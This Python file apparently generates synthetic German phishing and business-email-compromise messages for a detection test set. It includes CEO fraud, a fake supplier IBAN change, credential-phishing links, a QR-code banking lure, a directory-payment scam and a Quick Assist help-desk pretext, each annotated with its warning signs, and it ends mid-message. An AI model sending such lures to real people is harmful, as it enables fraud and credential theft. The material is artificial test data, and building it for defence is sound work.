# -*- coding: utf-8 -*-
"""German messages (attack 01-08, business 01-08)."""
import ids
import docs
import office
import company as C
import mailsys as X
from common import *
from reg import msg

LIEF_HOST, LIEF_IP = 'mail.lieferant-gmbh.de', '203.0.113.25'
LIEF_PC = ('PC-VERTRIEB04.lieferant.local', 'unknown', '192.168.10.57')


# =====================================================================================
@msg('attack', '01-de-ceo-vertrauliche-uebernahme.eml')
def a01(m):
    t = when(2026, 10, 16, 15, 12, 37)
    ceo = ('Matthias Brandt', 'matthias.brandt@examplegroup-eu.com')
    text = (
        'Frau Hoffmann,\n\n'
        'sind Sie heute noch im Büro erreichbar? Ich brauche Sie kurzfristig für eine vertrauliche Angelegenheit.\n\n'
        'Wir stehen unmittelbar vor der Unterzeichnung der Übernahme eines Nassfutterherstellers in Polen (Werk bei Łódź) – '
        'Sie wissen, dass wir für das Private-Label-Geschäft mit PetPoint zusätzliche Kapazität suchen. Die Due Diligence ist '
        'abgeschlossen, die Transaktion wird von Dr. Reinhardt (Reinhardt & Kollegen, Zürich) begleitet. Bis zur offiziellen '
        'Bekanntgabe gilt strikte Vertraulichkeit, auch gegenüber Herrn Becker und der Buchhaltung in Verden und Posen.\n\n'
        'Für die Exklusivitätsvereinbarung ist heute noch eine Anzahlung auf ein Treuhandkonto fällig. Dr. Reinhardt meldet sich '
        'in der nächsten halben Stunde per E-Mail bei Ihnen und schickt Ihnen das Treuhandschreiben mit den Kontodaten. Bitte '
        'behandeln Sie seine Anweisungen so, als kämen sie direkt von mir, und geben Sie die Zahlung als Einzelfreigabe frei – '
        'die Unterlagen für die Akte reiche ich am Montag nach.\n\n'
        'Ich sitze bis heute Abend in den Verhandlungen und kann nicht telefonieren. Bitte antworten Sie nur an diese Adresse, '
        'mein Postfach in Verden synchronisiert hier im Hotel nicht.\n\n'
        'Danke für Ihre Diskretion.\n\n'
        'Matthias Brandt\nGeschäftsführer\n\nVon meinem iPhone gesendet\n')
    m.root = Leaf('text/plain', text, 'utf-8', 'quoted-printable', ct_quote=False)
    c = dict(frm=ceo, to=[S('Katrin')], subject='Vertraulich – bitte heute noch', date=t, date_z='CET',
             msgid='<%s@examplegroup-eu.com>' % uuid4(m.rng).upper(), hcs='utf-8', hmode='Q')
    X.privateemail(m, c, '91.193.4.118', mua_order=[
        'From', ('Content-Type', None), 'Subject', 'Message-ID', 'Date', 'To', ('X-Mailer', 'iPhone Mail (23B85)'),
        ('Mime-Version', '1.0 (1.0)'), 'MIMEONLY'])
    m.describe('CEO fraud: "Matthias Brandt" writes to the CFO from the look-alike domain examplegroup-eu.com '
               '(Namecheap Private Email, registered days before), announces a secret acquisition in Poland and a lawyer '
               'who will send escrow account details.',
               'Look-alike of examplegroup.eu; first contact from this domain; secrecy (not even IT/accounting), urgency, '
               '"cannot phone", asks for a single-signature payment outside the four-eyes process and to obey a third party.')


# =====================================================================================
@msg('attack', '02-de-lieferant-bankverbindung-lookalike.eml')
def a02(m):
    r = m.rng
    t = when(2026, 10, 27, 10, 41, 9)
    petra = ('Petra Lang', 'p.lang@lieferamt-gmbh.de')
    iban = ids.make_iban('DE', '11010100' + '2874501163')
    earlier = when(2026, 10, 26, 14, 3, 51)
    prev = ('Guten Tag Frau Lang,\n\nzu Ihrer Rechnung RE-2026-10301 vom 08.10.2026 fehlt uns noch die Gutschrift über die '
            'Mindermenge (Lieferschein 80044172, 1,38 t). Können Sie die bitte kurzfristig ausstellen? Dann nehmen wir die '
            'Rechnungen RE-2026-10388 und RE-2026-10412 mit in den nächsten Zahllauf.\n\nMit freundlichen Grüßen\n\n'
            + sig_eg('Sabine'))
    body = ('Sehr geehrte Frau Krüger,\n\n'
            'vielen Dank für Ihre Nachricht – die Gutschrift GS-2026-0977 über die Mindermenge schicke ich Ihnen morgen früh '
            'separat zu.\n\n'
            'Bei dieser Gelegenheit eine wichtige Information unserer Geschäftsführung: Im Rahmen der Umstellung unseres '
            'Zahlungsverkehrs auf unsere neue Hausbank wird die bisherige Bankverbindung bei der Landessparkasse zum '
            '31.10.2026 geschlossen. Zahlungen, die ab dem 01.11. noch auf das alte Konto eingehen, können nicht mehr '
            'zugeordnet werden und werden zurückgebucht.\n\n'
            'Bitte verwenden Sie ab sofort ausschließlich die folgende Bankverbindung:\n\n'
            'Kontoinhaber: Lieferant GmbH\n'
            'IBAN: %s\n'
            'BIC: SOBKDEB2XXX\n\n'
            'Das offizielle Schreiben mit Unterschrift der Geschäftsführung finden Sie im Anhang. Bitte bestätigen Sie mir '
            'kurz per Mail, dass die Änderung in Ihrem Kreditorenstamm hinterlegt ist, und ob RE-2026-10388 und RE-2026-10412 '
            '(zusammen 48.361,20 EUR) noch mit dem Zahllauf in dieser Woche ausgeglichen werden.\n\n'
            % ids.fmt_iban(iban)) + sig_lief('Petra Lang').replace('p.lang@lieferant-gmbh.de', 'p.lang@lieferamt-gmbh.de')
    plain = body + '\n\n' + B.outlook_quote_plain('de', S('Sabine'), earlier, [('Petra Lang', 'p.lang@lieferant-gmbh.de')],
                                                  'Offene Posten Oktober / Gutschrift Mindermenge', prev)
    html = B.outlook_html(body, 'de', 'windows-1252', B.outlook_quote_html(
        'de', S('Sabine'), earlier, [('Petra Lang', 'p.lang@lieferant-gmbh.de')], 'Offene Posten Oktober / Gutschrift Mindermenge',
        B.text_to_mso(prev)), reply=True)
    created = t - TD(minutes=25)
    pdfb, _ = docs.build(m, [
        ('addr', ['Example Group Heimtiernahrung GmbH', 'Kreditorenbuchhaltung', 'Industriestraße 14', '27283 Verden (Aller)'],
         [('Datum', '26.10.2026'), ('Unser Zeichen', 'HL/mt'), ('Kunden-Nr.', '10088')]),
        ('sp', 18), ('h2', 'Mitteilung über die Änderung unserer Bankverbindung'), ('sp', 8),
        ('p', 'Sehr geehrte Damen und Herren,'), ('sp', 6),
        ('p', 'im Zuge der Neuordnung unseres Zahlungsverkehrs wechseln wir unsere Hausbank. Unsere bisherige Bankverbindung '
              'bei der Landessparkasse wird zum 31.10.2026 aufgelöst.'), ('sp', 6),
        ('p', 'Wir bitten Sie, sämtliche Zahlungen mit sofortiger Wirkung ausschließlich auf das folgende Konto zu leisten:'),
        ('sp', 6), ('kv', [('Kontoinhaber', 'Lieferant GmbH'), ('IBAN', ids.fmt_iban(iban)), ('BIC', 'SOBKDEB2XXX')]),
        ('sp', 8),
        ('p', 'Zahlungen auf die bisherige Bankverbindung können ab dem 01.11.2026 nicht mehr berücksichtigt werden. Bitte '
              'bestätigen Sie uns die Umstellung per E-Mail an p.lang@lieferamt-gmbh.de.'), ('sp', 6),
        ('p', 'Für Ihr Verständnis und die gute Zusammenarbeit bedanken wir uns.'), ('sp', 14),
        ('p', 'Mit freundlichen Grüßen'), ('sp', 22), ('p', 'Hermann Lübbers'), ('small', 'Geschäftsführer'),
    ], 'Microsoft: Print To PDF', '', 'Bankverbindung', 'Admin', None,
        header=docs.letterhead('Lieferant GmbH', ['Proteine & Fette für die Heimtiernahrung · Am Industriehafen 7 · 49661 Cloppenburg'],
                               (0.55, 0.12, 0.1), ['Tel. +49 4471 9388-0', 'www.lieferant-gmbh.de']),
        footer=docs.footer_lines([C.CORRESPONDENTS and 'Lieferant GmbH · Am Industriehafen 7 · 49661 Cloppenburg · Amtsgericht Oldenburg HRB 112874 · USt-IdNr. DE118472639']))
    m.root = Multi('mixed', [B.alt(m, plain, html, 'windows-1252', 'quoted-printable', bnd=B.bnd_generic(m)),
                             att(m, pdfb, 'application/pdf', 'Lieferant_GmbH_Änderung_Bankverbindung.pdf', 'outlook', t, 'windows-1252')],
                   B.bnd_generic(m))
    c = dict(frm=petra, to=[S('Sabine')], cc=[('Stefan Maier', 's.maier@lieferamt-gmbh.de')],
             subject='AW: Offene Posten Oktober / Gutschrift Mindermenge', date=t, date_z='CET', hcs='windows-1252', hmode='Q',
             irt='<6d0e3b9a41f24c7c9a51e07f2b8d4c11@EXCH01.corp.example.com>',
             refs='<6d0e3b9a41f24c7c9a51e07f2b8d4c11@EXCH01.corp.example.com>', replies=1, content_language='de')
    X.privateemail(m, c, '185.107.56.211')
    m.describe('Supplier bank-detail change from the look-alike domain lieferamt-gmbh.de ("m" for "n"): a reply to a '
               'plausible accounts-payable thread announcing a new IBAN at a neobank, with a "signed" letter PDF.',
               'Domain is not lieferant-gmbh.de; sent via Namecheap Private Email instead of the supplier\'s own relay; no DMARC; '
               'new IBAN at a different bank; deadline pressure; asks for confirmation by e-mail only; PDF made with '
               '"Microsoft: Print To PDF" by user "Admin". Genuine counterpart: business/02.',
               ibans=[iban], phones=['+49 4471 9388-0', '+49 4471 9388-12', '+49 4471 9388-99', '+49 4231 98870-214'])


# =====================================================================================
@msg('attack', '03-de-lieferant-gekapertes-postfach-dropbox.eml')
def a03(m):
    r = m.rng
    t = when(2026, 11, 4, 6, 52, 18)
    stefan = ('Stefan Maier', 's.maier@lieferant-gmbh.de')
    frank = S('Frank')
    prev_t = when(2026, 11, 3, 16, 41, 2)
    prev = ('Hallo Herr Maier,\n\ndanke für das Telefonat. Wie besprochen brauche ich für die Jahresplanung bis Ende der Woche '
            'die Spezifikation Geflügelmehl 65 % (Stand 2027) und Ihre Preisindikation für Q1. Die Mengen bleiben bei ca. '
            '110 t/Monat für Verden plus Abrufe für Posen.\n\nViele Grüße\nFrank Oltmanns\nEinkauf Rohstoffe & Verpackung\n'
            'Example Group Heimtiernahrung GmbH')
    link = 'https://www.dropbox.com/scl/fi/k7r2m9xq4ve1s0bz3n8wd/Lieferant_Preisliste_Q1-2027_Spezifikation.pdf?rlkey=v3l0pq8tx2zj6mhc4nby91ka7&st=0f3kd9sa&dl=0'
    text = ('Hallo Herr Oltmanns,\n\nanbei wie besprochen die überarbeitete Preisliste Q1/2027 sowie die aktualisierten '
            'Spezifikationen für Geflügelmehl 65 %% und Geflügelfett.\n\nDa die Unterlagen mit den Analysenzertifikaten zu groß '
            'für den Mailversand sind, habe ich sie Ihnen über Dropbox freigegeben:\n\n%s\n\n'
            'Zum Öffnen bitte mit Ihrer Geschäfts-E-Mail-Adresse bestätigen. Die Preise sind bis 20.11. gültig, danach müssen '
            'wir wegen der Rohwarenlage neu kalkulieren.\n\nMit freundlichen Grüßen\n\nStefan Maier\nKey Account Management '
            'Heimtiernahrung\nLieferant GmbH\nTel. +49 4471 9388-21' % link)
    quote_hdr = 'Am 03.11.2026 16:41, schrieb Frank Oltmanns:'
    plain = B.flowed(text) + '\n\n' + quote_hdr + '\n' + B.quote_lines(prev) + '\n'
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8" /></head>'
            '<body style=\'font-size: 10pt; font-family: Verdana,Geneva,sans-serif\'>\n'
            '<p>Hallo Herr Oltmanns,</p>\n<p>anbei wie besprochen die überarbeitete Preisliste Q1/2027 sowie die aktualisierten '
            'Spezifikationen für Geflügelmehl 65 %% und Geflügelfett.</p>\n<p>Da die Unterlagen mit den Analysenzertifikaten '
            'zu groß für den Mailversand sind, habe ich sie Ihnen über Dropbox freigegeben:</p>\n'
            '<p><a href="%s" target="_blank" rel="noreferrer">Lieferant_Preisliste_Q1-2027_Spezifikation.pdf</a></p>\n'
            '<p>Zum Öffnen bitte mit Ihrer Geschäfts-E-Mail-Adresse bestätigen. Die Preise sind bis 20.11. gültig, danach '
            'müssen wir wegen der Rohwarenlage neu kalkulieren.</p>\n<p>Mit freundlichen Grüßen</p>\n'
            '<div id="signature">Stefan Maier<br />Key Account Management Heimtiernahrung<br />Lieferant GmbH<br />Tel. +49 4471 9388-21</div>\n'
            '<p><br /></p>\n<p id="reply-intro">%s</p>\n<blockquote type="cite" style="padding: 0 0.4em; border-left: #1010ff 2px solid; margin: 0">\n'
            '<div class="pre" style="margin: 0; padding: 0; font-family: monospace">%s</div>\n</blockquote>\n</body></html>\n'
            % (link, B.esc(quote_hdr), '<br />'.join(B.esc(l) for l in prev.split('\n'))))
    bnd = '=_' + hexs(r, 32)
    m.root = Multi('alternative', [Leaf('text/plain', plain, 'UTF-8', 'quoted-printable', params='; format=flowed', ct_quote=False),
                                   Leaf('text/html', html, 'UTF-8', 'quoted-printable', ct_quote=False)], bnd)
    c = dict(frm=stefan, to=[frank], subject='Re: Spezifikation Geflügelmehl 2027 / Preisindikation Q1', date=t, hcs='UTF-8', hmode='Q',
             irt='<b41c07e2d9a34f6e8e0c5a7d13f9b260@EXCH02.corp.example.com>',
             refs='<c2a9e61f0b7d4d53a1e8f4c6907b3e15@EXCH01.corp.example.com> <b41c07e2d9a34f6e8e0c5a7d13f9b260@EXCH02.corp.example.com>')
    X.postfix_company(m, c, LIEF_HOST, LIEF_IP, None, dkim_s='mail2024', mua='roundcube',
                      webmail={'ip': '146.70.117.54', 'host': 'webmail.lieferant-gmbh.de'})
    m.describe('Thread hijack from the REAL, compromised mailbox of Stefan Maier (Lieferant GmbH): reply via the supplier\'s '
               'Roundcube webmail from a foreign VPS address, in an existing procurement thread, with a genuine Dropbox link '
               'to a PDF that leads to a credential-phishing page.',
               'SPF/DKIM/DMARC all pass (real mailbox). Tells: webmail login from 146.70.117.54 (M247 VPS, not the supplier\'s '
               'network; Stefan normally writes with Outlook), sent at 06:52, "confirm with your business e-mail" to open a '
               'price list, file-share instead of attachment, deadline.',
               phones=['+49 4471 9388-21'])


# =====================================================================================
@msg('attack', '04-de-petpoint-lieferantenportal-phishing.eml')
def a04(m):
    r = m.rng
    t = when(2026, 11, 11, 9, 4, 55)
    nina = S('Nina')
    track = 'https://u48213077.ct.sendgrid.net/ls/click?upn=u001.%s' % b64s(r, 96).replace('+', '-').replace('/', '_').rstrip('=')
    vis = 'https://petpoint-lieferantenportal.de/anmeldung?lief=100884'
    html = ('<!DOCTYPE html>\n<html lang="de"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">'
            '<title>PetPoint Lieferantenportal</title></head>\n'
            '<body style="margin:0;padding:0;background:#f2f4f6;font-family:Arial,Helvetica,sans-serif;color:#1d2a33">\n'
            '<table role="presentation" width="100%%" cellpadding="0" cellspacing="0" style="background:#f2f4f6"><tr><td align="center" style="padding:24px 12px">\n'
            '<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;border-radius:4px">\n'
            '<tr><td style="background:#00594f;padding:18px 28px;color:#ffffff;font-size:20px;font-weight:bold">PetPoint '
            '<span style="font-weight:normal;font-size:14px">| Lieferantenportal</span></td></tr>\n'
            '<tr><td style="padding:28px;font-size:14px;line-height:21px">\n'
            '<p>Sehr geehrte Damen und Herren,</p>\n'
            '<p>zum 01.01.2027 stellen wir unser Lieferantenportal auf <b>SAP Business Network</b> um. Damit Bestellungen, '
            'Lieferabrufe und Gutschriftsanzeigen ab KW 48 weiterhin automatisch an Sie übermittelt werden, müssen alle '
            'aktiven Lieferanten ihre Stammdaten und die Jahresvereinbarung 2027 einmalig im Portal bestätigen.</p>\n'
            '<table role="presentation" cellpadding="0" cellspacing="0" style="margin:12px 0;font-size:13px;background:#f6f8f9;width:100%%">\n'
            '<tr><td style="padding:10px 14px">Lieferant</td><td style="padding:10px 14px"><b>Example Group Heimtiernahrung GmbH</b></td></tr>\n'
            '<tr><td style="padding:10px 14px">Lieferanten-Nr.</td><td style="padding:10px 14px">100884</td></tr>\n'
            '<tr><td style="padding:10px 14px">Frist</td><td style="padding:10px 14px;color:#b00020"><b>20.11.2026</b></td></tr></table>\n'
            '<p>Die Bestätigung dauert ca. 3 Minuten. Bitte melden Sie sich mit Ihren Microsoft-365-Zugangsdaten an – die '
            'Anmeldung erfolgt über Single Sign-on.</p>\n'
            '<p style="text-align:center;margin:26px 0"><a href="%s" style="background:#00594f;color:#ffffff;text-decoration:none;'
            'padding:12px 26px;border-radius:3px;font-weight:bold">Stammdaten jetzt bestätigen</a></p>\n'
            '<p style="font-size:12px;color:#5b6770">Falls die Schaltfläche nicht funktioniert, kopieren Sie diesen Link in Ihren Browser:<br>'
            '<a href="%s" style="color:#00594f">%s</a></p>\n'
            '<p>Nicht bestätigte Lieferantenkonten werden zum 01.12.2026 gesperrt.</p>\n'
            '<p>Mit freundlichen Grüßen<br>Ihr Team Lieferantenmanagement<br>PetPoint Handels GmbH &amp; Co. KG</p>\n'
            '</td></tr>\n<tr><td style="padding:16px 28px;font-size:11px;color:#7b8790;border-top:1px solid #e3e7ea">'
            'PetPoint Handels GmbH &amp; Co. KG · Süderstraße 284 · 20537 Hamburg · Amtsgericht Hamburg HRA 121947<br>'
            'Diese E-Mail wurde automatisch erstellt. Bitte antworten Sie nicht auf diese Nachricht.</td></tr>\n'
            '</table></td></tr></table>\n<img src="https://u48213077.ct.sendgrid.net/wf/open?upn=u001.%s" alt="" width="1" height="1" border="0" '
            'style="height:1px !important;width:1px !important;border-width:0 !important;margin:0 !important;padding:0 !important"/>\n'
            '</body></html>\n' % (track, track, vis, b64s(r, 60).replace('+', '-').replace('/', '_').rstrip('=')))
    plain = B.html_to_text(html).replace('Stammdaten jetzt bestätigen', 'Stammdaten jetzt bestätigen ( %s )' % track)
    m.root = Multi('alternative', [Leaf('text/plain', plain, 'utf-8', 'quoted-printable', ct_quote=False),
                                   Leaf('text/html', html, 'utf-8', 'quoted-printable', ct_quote=False)], hexs(r, 60), quote=True)
    c = dict(frm=('PetPoint Lieferantenportal', 'noreply@petpoint-lieferantenportal.de'), to=[nina],
             subject='Aktion erforderlich: Bestätigung Stammdaten und Jahresvereinbarung 2027 bis 20.11.2026', date=t, hcs='UTF-8', hmode='B')
    X.sendgrid(m, c, 'petpoint-lieferantenportal.de', 'em7716', dmarc_policy='absent')
    m.describe('Trade-portal credential phishing: fake "PetPoint Lieferantenportal" (look-alike domain of the customer '
               'petpoint-handel.de) announces a portal migration and asks to confirm master data with Microsoft 365 '
               'credentials; sent through a SendGrid account, link wrapped in SendGrid click tracking.',
               'Domain petpoint-lieferantenportal.de is not petpoint-handel.de; SSO via "your Microsoft 365 credentials" for a '
               'customer portal; blocking threat and deadline. Infrastructure (SendGrid, tracking links) is identical to the '
               'genuine portal notice business/04, so only domain and request differ.')


# =====================================================================================
@msg('attack', '05-de-bank-securego-qr-pdf.eml')
def a05(m):
    r = m.rng
    t = when(2026, 11, 9, 8, 3, 40)
    joerg = S('Jörg')
    qr_url = 'https://securego-aktivierung-fk.pages.dev/?fk=204518&v=7Q2KX9'
    html = ('<!doctype html><html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>'
            '<body style="font-family:Arial,sans-serif;font-size:14px;color:#222">\n'
            '<div style="max-width:620px;margin:0 auto">\n'
            '<div style="border-bottom:3px solid #0066b3;padding:12px 0"><img src="https://img.mailinblue.com/8734521/images/content_library/original/6571d2a4e1b3c8_logo_web.png" '
            'alt="Weser-Ems Bank eG" width="180"></div>\n'
            '<p>Sehr geehrte Firmenkundin, sehr geehrter Firmenkunde,</p>\n'
            '<p>zum 30.11.2026 wird das Verfahren <b>Sm@rt-TAN photo</b> für Firmenkundenzugänge endgültig abgeschaltet. Damit '
            'Sie Zahlungsaufträge und Sammelüberweisungen auch im Dezember ohne Unterbrechung freigeben können, muss jeder '
            'Zugang einmalig auf <b>SecureGo plus</b> umgestellt werden.</p>\n'
            '<p>Für Ihren Zugang <b>Example Group Heimtiernahrung GmbH (VR-NetKey endet auf …4518)</b> haben wir Ihnen die '
            'persönliche Aktivierungsunterlage als PDF beigefügt. Bitte scannen Sie den darin enthaltenen QR-Code mit der '
            'Kamera Ihres Smartphones – die Aktivierung ist aus Sicherheitsgründen nur mobil möglich.</p>\n'
            '<p>Nicht umgestellte Zugänge werden nach Ablauf der Frist für Zahlungsfreigaben gesperrt.</p>\n'
            '<p>Freundliche Grüße<br>Ihre Weser-Ems Bank eG<br>Firmenkundenservice</p>\n'
            '<p style="font-size:11px;color:#777">Weser-Ems Bank eG · Vorstand: Dr. Carsten Ahlers, Birgit Meyerholz · '
            'Registergericht Oldenburg GnR 150211</p>\n</div></body></html>\n')
    pdfb, _ = docs.build(m, [
        ('addr', ['Example Group Heimtiernahrung GmbH', 'z. Hd. Zahlungsverkehr', 'Industriestraße 14', '27283 Verden (Aller)'],
         [('Datum', '09.11.2026'), ('Kundennummer', 'FK-204518'), ('Vorgang', 'SGP-2026-118274')]),
        ('sp', 20), ('h2', 'Ihre Aktivierungsunterlage für SecureGo plus'), ('sp', 8),
        ('p', 'Sehr geehrte Damen und Herren,'), ('sp', 4),
        ('p', 'mit diesem Schreiben erhalten Sie Ihren persönlichen Aktivierungscode für das Freigabeverfahren SecureGo plus. '
              'Scannen Sie den QR-Code mit der Kamera Ihres Smartphones und folgen Sie den Anweisungen. Halten Sie dazu Ihren '
              'VR-NetKey bzw. Alias und Ihre PIN bereit.'), ('sp', 10),
        ('qr', qr_url, 120, 'Aktivierungscode gültig bis 13.11.2026, 23:59 Uhr. Aus Sicherheitsgründen kann der Code nur '
                            'einmal verwendet werden.'),
        ('sp', 6),
        ('p', 'Nach erfolgreicher Aktivierung erhalten Sie eine Bestätigung in Ihrem elektronischen Postfach.'), ('sp', 10),
        ('p', 'Mit freundlichen Grüßen'), ('p', 'Ihre Weser-Ems Bank eG'),
        ('sp', 20), ('small', 'Dieses Schreiben wurde maschinell erstellt und ist ohne Unterschrift gültig.'),
    ], 'iLovePDF', 'Weser-Ems Bank eG', 'SecureGo plus Aktivierung', '', when(2026, 11, 8, 22, 14, 3),
        header=docs.letterhead('Weser-Ems Bank eG', ['Firmenkundenservice · Postfach 1420 · 26004 Oldenburg'], (0.0, 0.4, 0.7)),
        footer=docs.footer_lines(['Weser-Ems Bank eG · Registergericht Oldenburg GnR 150211 · BIC GENODEF1WEV']))
    m.root = Multi('mixed', [Leaf('text/html', html, 'utf-8', 'quoted-printable', ct_quote=False),
                             att(m, pdfb, 'application/pdf', 'SecureGo_plus_Aktivierung_FK-204518.pdf', 'php')],
                   B.bnd_java(m))
    c = dict(frm=('Weser-Ems Bank eG', 'firmenkunden@wemsbank-service.de'), to=[joerg],
             subject='Umstellung auf SecureGo plus – Ihre Aktivierungsunterlage (Frist 13.11.2026)', date=t, hcs='utf-8', hmode='B')
    X.brevo(m, c, unsub=False)
    m.describe('Quishing: fake house-bank notice (look-alike wemsbank-service.de via Brevo) with a PDF "activation letter" '
               'whose QR code leads to a Cloudflare Pages phishing site for the business online-banking login.',
               'Bank really is weser-ems-bank.de; sender domain differs and has no DMARC; QR in PDF moves the link to a '
               'phone outside the mail filter; pages.dev host; "activation only on mobile"; lockout threat. Genuine bank '
               'notice: business/05.')


# =====================================================================================
@msg('attack', '06-de-registereintrag-zahlungsaufforderung.eml')
def a06(m):
    r = m.rng
    t = when(2026, 11, 18, 11, 27, 2)
    iban = ids.make_iban('LT', '32500' + '19470362815')
    epc = 'BCD\n002\n1\nSCT\n\nDRHG Register fuer Handel und Gewerbe\n%s\nEUR1194.00\n\n\nDRHG-2026-0418837 Example Group Heimtiernahrung' % iban
    text = ('Sehr geehrte Damen und Herren,\n\n'
            'anbei erhalten Sie die Eintragungsunterlagen zu Ihrem Unternehmen Example Group Heimtiernahrung GmbH '
            '(Amtsgericht Walsrode, HRB 204518).\n\n'
            'Zur Aktualisierung und Veröffentlichung Ihrer Firmendaten im DRHG-Verzeichnis bitten wir um Überweisung des '
            'ausgewiesenen Betrages innerhalb von 10 Tagen. Für eine schnelle Zahlung können Sie den GiroCode auf dem '
            'Formular mit Ihrer Banking-App scannen.\n\n'
            'Registernummer: DRHG-2026-0418837\nBetrag: 1.194,00 EUR\n\n'
            'Mit freundlichen Grüßen\n\nDRHG – Register für Handel und Gewerbe\nAbteilung Eintragungen\n'
            'Tel. +49 30 5683 1174\n')
    pdfb, _ = docs.build(m, [
        ('addr', ['Example Group Heimtiernahrung GmbH', 'Industriestraße 14', '27283 Verden (Aller)'],
         [('Register-Nr.', 'DRHG-2026-0418837'), ('Datum', '18.11.2026'), ('Aktenzeichen', 'HRB 204518 / AG Walsrode')]),
        ('sp', 16), ('h', 'Eintragungsantrag / Zahlungsaufforderung'), ('sp', 6),
        ('p', 'Eintragung der Firmendaten in das DRHG-Verzeichnis für Handel und Gewerbe'), ('sp', 6),
        ('kv', [('Firma', 'Example Group Heimtiernahrung GmbH'), ('Rechtsform', 'GmbH'), ('Sitz', '27283 Verden (Aller)'),
                ('Register', 'Amtsgericht Walsrode HRB 204518'), ('Branche', 'Herstellung von Futtermitteln für sonstige Tiere (WZ 10.92)')]),
        ('sp', 8),
        ('table', ['Leistung', 'Zeitraum', 'Betrag'], [['Eintragung und Veröffentlichung der Firmendaten', '12 Monate', '1.194,00 EUR']],
         [5, 2, 2], ['l', 'l', 'r']),
        ('totals', [('Zahlbetrag', '1.194,00 EUR', True)]), ('sp', 6),
        ('kv', [('Empfänger', 'DRHG Register für Handel und Gewerbe'), ('IBAN', ids.fmt_iban(iban)), ('Verwendungszweck', 'DRHG-2026-0418837')]),
        ('sp', 6), ('qr', epc, 92, 'GiroCode: mit der Banking-App scannen und Überweisung bestätigen.'), ('sp', 4),
        ('small', 'Mit der Zahlung wird der Auftrag zur Eintragung gemäß unseren AGB erteilt. Es handelt sich um ein Angebot zur '
                  'Eintragung in ein privates Branchenverzeichnis. Eine Verpflichtung zur Zahlung besteht nicht. Die Laufzeit beträgt '
                  '3 Jahre und verlängert sich um jeweils ein weiteres Jahr, sofern nicht 3 Monate vor Ablauf gekündigt wird. '
                  'Der Betrag von 1.194,00 EUR versteht sich pro Jahr zzgl. MwSt. Es besteht keine Verbindung zum Handelsregister '
                  'oder zu einer Behörde.'),
    ], 'Microsoft® Word 2016', 'Microsoft® Word 2016', 'Eintragungsantrag', 'DRHG', when(2026, 11, 17, 17, 40, 0),
        header=docs.letterhead('DRHG', ['Register für Handel und Gewerbe · Eintragungsstelle · Friedrichstraße 88 · 10117 Berlin'], (0.12, 0.12, 0.12),
                               ['Tel. +49 30 5683 1174', 'eintragung@drhg-register.de'], logo_box=False),
        footer=docs.footer_lines(['DRHG Register für Handel und Gewerbe – ein Angebot der Trade Data Solutions s.r.o. · Bratislava']))
    m.root = Multi('mixed', [Leaf('text/plain', text, 'utf-8', 'base64', ct_quote=True),
                             att(m, pdfb, 'application/pdf', 'DRHG_Eintragung_HRB204518.pdf', 'plain')], hexs(r, 32))
    c = dict(frm=('DRHG Eintragungsstelle', 'eintragung@drhg-register.de'), to=[S('Melanie')],
             subject='Eintragung HRB 204518 – Example Group Heimtiernahrung GmbH – Zahlungsaufforderung', date=t, hcs='utf-8', hmode='B')
    X.mailgun(m, c, 'mg.drhg-register.de', dmarc_policy='absent')
    m.describe('Register/directory scam: official-looking "Eintragungsantrag / Zahlungsaufforderung" of a private '
               '"register" quoting the real commercial-register number, with an EPC GiroCode QR to a Lithuanian EMI IBAN; '
               'the fine print says it is only an offer for a 3-year directory listing.',
               'Sender is not a court or authority; uses public HRB data to look official; EUR 1,194/year with auto-renewal '
               'hidden in fine print; payment QR to a foreign EMI; bulk sender Mailgun. Genuine QR invoice: business/03.',
               ibans=[iban], phones=['+49 30 5683 1174'])


# =====================================================================================
@msg('attack', '07-de-it-servicedesk-schnellhilfe.eml')
def a07(m):
    r = m.rng
    t = when(2026, 11, 24, 10, 17, 44)
    dennis = S('Dennis')
    text = ('Hallo Herr Wübben,\n\n'
            'unser Monitoring zeigt, dass Ihr Postfach seit heute Morgen von einer Spam-Welle betroffen ist (über 1.400 '
            'Newsletter-Anmeldungen in zwei Stunden). Das ist ein bekannter Angriff, mit dem wichtige Mails in der Flut '
            'untergehen sollen.\n\n'
            'Wir müssen für Ihr Konto eine Filterregel auf dem Client einrichten. Ein Kollege aus dem Servicedesk ruft Sie dazu '
            'in den nächsten 10–15 Minuten über Microsoft Teams an. Bitte halten Sie dann die Windows-Schnellhilfe bereit '
            '(Windows-Taste + Strg + Q) und nennen Sie dem Kollegen den angezeigten Sicherheitscode. Die Sitzung dauert ca. '
            '5 Minuten, Sie können währenddessen normal weiterarbeiten.\n\n'
            'Falls der Anruf nicht durchkommt, erreichen Sie uns unter +49 421 794 58 216 (Ticket INC0048217).\n\n'
            'Bitte löschen Sie die Spam-Mails nicht manuell, damit wir die Absender für die Sperrliste auswerten können.\n\n'
            'Viele Grüße\n\nThomas Becker\nLeitung IT\nExample Group – IT-Servicedesk\n')
    html = B.outlook_html(text, 'de', 'utf-8')
    srv = 'DU2PR10MB%04d' % r.randint(1000, 9999)
    m.root = B.alt(m, text, html, 'utf-8', 'base64', bnd=B.bnd_outlook(m, '000', srv))
    c = dict(frm=('IT-Servicedesk Example Group', 'it-servicedesk@exgrpit.onmicrosoft.com'), to=[dennis],
             subject='INC0048217 – Spam-Welle auf Ihrem Postfach: Rückruf durch den Servicedesk', date=t, hcs='utf-8', hmode='B')
    X.m365(m, c, (guid(r), 'exgrpit.onmicrosoft.com'), 'exgrpit.onmicrosoft.com', region='eurprd10',
           dkim_d='exgrpit.onmicrosoft.com', dkim_s='selector1-exgrpit-onmicrosoft-com', dmarc_policy='none')
    m.describe('Help-desk / remote-access pretext (the Black-Basta-style "spam bomb + Teams call" playbook): an external '
               'Microsoft 365 trial tenant poses as the company IT service desk, signs as the real head of IT and prepares '
               'the victim for a Teams call in which Quick Assist is started.',
               'Comes from exgrpit.onmicrosoft.com, not example.com; internal IT would not mail from an external tenant; '
               'remote-control request with security code; unknown call-back number; asks not to delete evidence. Genuine '
               'IT notice with the opposite advice: business/07.', phones=['+49 421 794 58 216'])


# =====================================================================================
@msg('attack', '08-de-bewerbung-passwort-zip.eml')
def a08(m):
    r = m.rng
    t = when(2026, 12, 1, 8, 36, 12)
    frm = ('Julia Kaiser', 'julia.kaiser.bewerbung@web.de')
    anja = S('Anja')
    pw = 'JK2026'
    text = ('Sehr geehrte Frau Schröder,\n\n'
